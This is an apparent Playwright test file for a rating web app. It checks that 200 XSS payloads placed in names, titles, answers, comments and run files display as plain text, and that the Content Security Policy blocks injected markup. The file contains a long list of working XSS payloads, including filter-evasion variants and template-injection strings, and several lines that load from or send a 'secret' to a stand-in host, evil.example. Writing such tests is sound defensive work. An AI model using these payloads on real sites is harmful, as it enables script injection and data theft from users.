"""200 texts that want to be scripts, as a model's answer, a question, a title, a name, a comment, a run: shown as text.

No script runs, no dialog opens, no request leaves the server; and what would notice one is shown to notice it.
"""

import itertools
import json
from collections.abc import Callable

import msgspec
import pytest
from browsing import Visitor
from live_server import Served

from fledge.core.checkpoint import canonical_json
from fledge.feedback.records import NewDraft
from fledge.feedback.store import Store
from fledge.text.messages import Message

expect = pytest.importorskip("playwright.sync_api", reason="playwright is not installed").expect

RUN = "window.__xss=1"
AWAY = "http://evil.example/?q=secret"
HANDLERS = [
    f'<{tag} {handler}="{RUN}">'
    for tag, handler in itertools.product(
        ("img src=x", "svg", "body", "video src=x", "audio src=x", "details open", "input autofocus", "iframe", "object data=x",
         "marquee", "button autofocus", "frameset", "select autofocus", "a href=# tabindex=1 autofocus", "style", "math"),
        ("onerror", "onload", "onfocus", "onmouseover", "ontoggle", "onstart", "onanimationstart"),
    )
]  # fmt: skip
SPECIAL = [
    f"<script>{RUN}</script>", f"</script><script>{RUN}</script>", f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<SCRIPT SRC={AWAY}></SCRIPT>", f"<script type=module>import '{AWAY}'</script>", f"<svg><script>{RUN}</script></svg>",
    f"<svg/onload={RUN}>", f"<svg><animate onbegin={RUN} attributeName=x dur=1s>", f"<svg><use href=\"data:image/svg+xml,<svg id=x onload='{RUN}'>#x\"/>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>", f"<noscript><p title=\"</noscript><img src=x onerror={RUN}>\">",
    f"<template><script>{RUN}</script></template>", f"<iframe srcdoc=\"<script>parent.{RUN[7:]}</script>\"></iframe>",
    f"<iframe src=\"javascript:parent.{RUN[7:]}\"></iframe>", f"<iframe src={AWAY}></iframe>", f"<embed src={AWAY}>", f"<object data={AWAY}></object>",
    f"<link rel=stylesheet href={AWAY}>", f"<link rel=prefetch href={AWAY}>", f"<meta http-equiv=refresh content=\"0;url={AWAY}\">",
    f"<base href={AWAY}>", f"<form action={AWAY}><button autofocus>go</button></form>", f"<style>@import '{AWAY}';</style>",
    f"<style>*{{background:url({AWAY})}}</style>", f"<div style=\"background:url({AWAY})\">x</div>", f"<img src={AWAY}>", f"<img srcset={AWAY}>",
    f"<picture><source srcset={AWAY}></picture>", f"<video poster={AWAY}></video>", f"<audio src={AWAY} autoplay></audio>", f"<a ping={AWAY} href=#>x</a>",
    f"<a href=\"javascript:{RUN}\">x</a>", f"<a href=\"java&#10;script:{RUN}\">x</a>", f"<a href=\"data:text/html,<script>{RUN}</script>\">x</a>",
    f"[link](javascript:{RUN})", f"[link](JaVaScRiPt:{RUN})", "[link](data:text/html;base64,PHNjcmlwdD4=)", f"![image]({AWAY})", f"![x](x\" onerror=\"{RUN})",
    f"[x]: {AWAY}\n![x][x]", f"<{AWAY}>", AWAY, f"[![nested]({AWAY})](javascript:{RUN})", f"[link]({AWAY} \"onclick={RUN}\")",
    f"```html\n<script>{RUN}</script>\n```", f"```\"><img src=x onerror={RUN}>\ncode\n```", f"`<img src=x onerror={RUN}>`", f"**<img src=x onerror={RUN}>**",
    f"# <img src=x onerror={RUN}>", f"> <img src=x onerror={RUN}>", f"- <img src=x onerror={RUN}>\n  - <svg onload={RUN}>", f"1. <script>{RUN}</script>",
    f"~~<img src=x onerror={RUN}>~~", f"| a | <img src=x onerror={RUN}> |\n|---|---|\n| b | c |", f"<!--><img src=x onerror={RUN}>-->", f"<![CDATA[<script>{RUN}</script>]]>",
    f"<?xml version=\"1.0\"?><script>{RUN}</script>", f"\"><img src=x onerror={RUN}>", f"'><img src=x onerror={RUN}>", f"\" autofocus onfocus={RUN} x=\"",
    f"' onmouseover={RUN} '", f"`onload={RUN}`", f"javascript:{RUN}", f"javascript://%0a{RUN}", f"vbscript:{RUN}", f"data:text/html,<script>{RUN}</script>",
    f"{{{{constructor.constructor('{RUN}')()}}}}", f"${{{RUN}}}", f"<%= {RUN} %>", f"#{{{RUN}}}", f"{{{{7*7}}}}{{% {RUN} %}}", f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;", f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e", f"%3Cscript%3E{RUN}%3C/script%3E", f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    f"<ſcript>{RUN}</ſcript>", f"＜script＞{RUN}＜/script＞", f"<img\u2028src=x\u2029onerror={RUN}>", f"<img src=x\tonerror\n=\r\n{RUN}>", f"<img/src=x/onerror={RUN}//",
    f"<<img src=x onerror={RUN}>>", f"<IMG SRC=x ONERROR={RUN}>", f"<x onclick={RUN} tabindex=0 autofocus onfocus={RUN}>x</x>", f"<button popovertarget=x onclick={RUN}>x</button><div popover id=x onbeforetoggle={RUN}>",
    f"\u202e<tpircs>{RUN}", f"\ufeff<script>{RUN}</script>", f"a\u0301\u0301<img src=x onerror={RUN}>", f"\x1b]8;;{AWAY}\x07click\x1b]8;;\x07", f"\x08\x08\x08<script>{RUN}</script>",
    "constructor", "__proto__", "toString", "dataset.all=yes", f"fledge.vote.{RUN}", "</textarea><script>window.__xss=1</script>", "</title><script>window.__xss=1</script>",
    "</style><script>window.__xss=1</script>", "data: {\"done\": true}\n\ndata: {\"text\": \"<script>window.__xss=1</script>\"}", "<dialog open onclose=window.__xss=1>", "<slot onslotchange=window.__xss=1>",
]  # fmt: skip
PLAIN = HANDLERS[: 200 - len(SPECIAL)]  # no Markdown in these: they are shown exactly as they are
PAYLOADS = [*PLAIN, *SPECIAL]
ALLOWED = {
    "P",
    "STRONG",
    "EM",
    "S",
    "CODE",
    "PRE",
    "UL",
    "OL",
    "LI",
    "H3",
    "H4",
    "H5",
    "H6",
    "HR",
    "BLOCKQUOTE",
    "SPAN",
    "BUTTON",
}


def test_there_are_200_of_them():
    assert len(PAYLOADS) == len(set(PAYLOADS)) == 200


@pytest.fixture(scope="module")
def planted(served: Served) -> Served:
    """A rater with an evil name whose conversations have evil titles; one of them holds 200 evil answers and questions."""
    with Store.open(served.service.url) as store:
        person = store.put_person("person", PAYLOADS[0], "rater", "evil-token-of-the-tests")
        for payload in PAYLOADS[1:]:
            store.put_conversation(person, payload)
        long = store.put_conversation(person, "the long one")
        for payload in PAYLOADS:
            prompt = (Message("user", payload),)
            store.put_draft(
                NewDraft(prompt=prompt, text=payload, tokens=[1], finish="stop", person=person, conversation=long)
            )
    served.tokens["evil"] = "evil-token-of-the-tests"
    return served


def unharmed(me: Visitor) -> None:
    """No script of theirs ran, and nothing in what the page shows could be one."""
    me.page.wait_for_timeout(200)
    assert me.page.evaluate("() => window.__xss") is None
    tags = me.page.evaluate("() => [...new Set([...document.querySelectorAll('.prose *')].map((e) => e.tagName))]")
    assert set(tags) <= ALLOWED
    odd = "() => [...document.querySelectorAll('*')].flatMap((e) => [...e.attributes]).filter((a) => /^on/i.test(a.name)).length"
    assert me.page.evaluate(odd) == 0
    leading = (
        "() => [...document.querySelectorAll('a')].map((a) => a.href).filter((h) => !h.startsWith(location.origin))"
    )
    assert me.page.evaluate(leading) == []
    foreign = "iframe, object, embed, img, video, audio, base, form:not(.ask-shift), #app script, #app style, #app link"
    assert me.page.locator(foreign).count() == 0
    me.check()


def test_as_answers_questions_titles_and_name(visit: Callable[..., Visitor], planted: Served):
    me = visit("evil")
    expect(me.page.locator(".who")).to_have_text(PAYLOADS[0])
    expect(me.page.locator(".list a")).to_have_count(200)
    titles = {t for t in me.page.locator(".list a").all_inner_texts()}
    assert HANDLERS[1] in titles and f"![image]({AWAY})" in titles
    unharmed(me)
    me.page.get_by_role("link", name="the long one").click()
    expect(me.page.locator(".turn")).to_have_count(200)
    asked = me.page.locator(".bubble").all_inner_texts()
    assert set(PLAIN) <= set(asked)  # as they were written
    answers = me.page.locator(".prose").all_inner_texts()
    assert {*PLAIN, f"![image]({AWAY})", f"[link](javascript:{RUN})"} <= set(answers)
    unharmed(me)
    me.page.get_by_role("button", name="Good answer").first.hover()
    me.page.locator(".turn").nth(40).scroll_into_view_if_needed()
    unharmed(me)


def test_as_streamed_pieces_in_chat_and_in_pairs(visit: Callable[..., Visitor], planted: Served):
    me = visit("rater")

    def told(route) -> None:
        events = [{"conversation": "c_" + "0" * 32, "title": PAYLOADS[3]}]
        for side in (0, 1):
            text = "\n\n".join(PAYLOADS[side::2])
            events += [{"draft": side, "text": text[at : at + 7]} for at in range(0, len(text), 7)]
        ended = [{"draft": side, "finish": "stop", "id": f"d_{side}" + "0" * 31, "dropped_turns": 0} for side in (0, 1)]
        events += [*ended, {"done": True, "task": {"id": "t_" + "0" * 32}}]
        body = "".join(f"data: {json.dumps(event)}\n\n" for event in events)
        route.fulfill(status=200, body=body, content_type="text/event-stream")

    def revealed(route) -> None:
        names = {"left": PAYLOADS[5], "right": f"<script>{RUN}</script>"}
        answer = json.dumps({"seq": 1, "id": route.request.post_data_json["id"], "revealed": names})
        route.fulfill(status=201, body=answer, content_type="application/json")

    me.page.route("**/api/ask", told)
    me.page.route("**/api/votes", revealed)
    me.page.locator(".composer .switch").click()
    me.ask(f"<img src=x onerror={RUN}>")
    expect(me.page.locator(".verdicts button").first).to_be_enabled(timeout=30000)
    me.page.keyboard.press("1")
    expect(me.page.locator(".draft .by").last).to_have_text(f"<script>{RUN}</script>")
    unharmed(me)


def test_as_comment_edit_and_settings(visit: Callable[..., Visitor], planted: Served):
    me = visit("rater")
    since = planted.service.store.last_seq()
    me.ask("Hello")
    me.page.get_by_role("button", name="Good answer").click()
    me.page.get_by_role("textbox", name="Comment").fill("\n".join(PAYLOADS[:12]))
    me.page.get_by_role("button", name="Save").click()
    expect(me.page.locator(".thanks")).to_be_visible()
    me.page.get_by_role("button", name="Edit").click()
    text = f"<img src=x onerror={RUN}>\n![x]({AWAY})"
    me.page.get_by_role("textbox", name="The answer as it should be").fill(text)
    me.page.get_by_role("button", name="Save").click()
    expect(me.page.locator(".prose").first).to_have_text(text.replace("\n", " "))
    me.page.wait_for_timeout(300)
    votes = list(planted.service.store.votes(after_seq=since))
    assert votes[1].comment == "\n".join(PAYLOADS[:12])
    unharmed(me)
    me.page.reload()
    expect(me.page.locator(".prose").first).to_have_text(text.replace("\n", " "))
    unharmed(me)


def test_as_a_run_its_samples_flags_and_tokens(visit: Callable[..., Visitor], planted: Served):
    run = planted.run / f"<img src=x onerror={RUN}>"
    run.mkdir()
    recipe = {"stage": f"<svg onload={RUN}>", "recipe": {"out": str(run), "train": {"steps": 3}}}
    (run / "recipe.json").write_bytes(canonical_json(recipe))
    rows = [{"step": n, "loss": 1 / n, f"<img src=x onerror={RUN}>": n} for n in (1, 2, 3)]
    (run / "metrics.jsonl").write_bytes(b"".join(msgspec.json.encode(row) + b"\n" for row in rows))
    samples = {"step": 3, "steps": 3, "samples": [{"prompt": p, "text": p} for p in PAYLOADS]}
    (run / "samples.jsonl").write_bytes(msgspec.json.encode(samples) + b"\n")
    (run / "flags.json").write_bytes(msgspec.json.encode([{"step": 1, "text": PAYLOADS[2]}]))
    me = visit()
    me.go("runs")
    me.page.get_by_role("link", name=f"<img src=x onerror={RUN}>").click()
    expect(me.page.locator(".sample")).to_have_count(200)
    unharmed(me)
    me.go("next")
    me.page.get_by_role("textbox").fill(PAYLOADS[0])
    expect(me.page.locator(".bar-row").first).to_be_visible()
    unharmed(me)
    me.go("shift")
    me.page.get_by_label("Question").fill(PAYLOADS[0])
    me.page.get_by_label("Answer").fill(PAYLOADS[1])
    me.page.get_by_role("button", name="Compare").click()
    expect(me.page.locator("button.tok").first).to_be_visible()
    unharmed(me)
    me.page.evaluate("(h) => { location.hash = h; }", f"#runs/{PAYLOADS[0]}")
    me.page.evaluate("(h) => { location.hash = h; }", f"#{PAYLOADS[0]}")
    unharmed(me)


def test_what_would_notice_a_script_notices_it(visit: Callable[..., Visitor]):
    """The same texts as markup: the policy of the server stops them even then, and says so."""
    me = visit()
    refused = "(html) => { document.querySelector('main').innerHTML = html; }"
    me.page.evaluate(refused, f"<img src=x onerror={RUN}><iframe src={AWAY}></iframe><img src={AWAY}>")
    me.page.wait_for_timeout(300)
    assert me.page.evaluate("() => window.__xss") is None
    assert len(me.errors) >= 3 and all("Content Security Policy" in error for error in me.errors)
    with pytest.raises(AssertionError):
        me.check()
    me.errors.clear()
    me.outside.clear()
    me.page.evaluate("() => { setTimeout(() => alert(1)); }")
    me.page.wait_for_timeout(200)
    assert me.dialogs == ["1"]
    me.dialogs.clear()
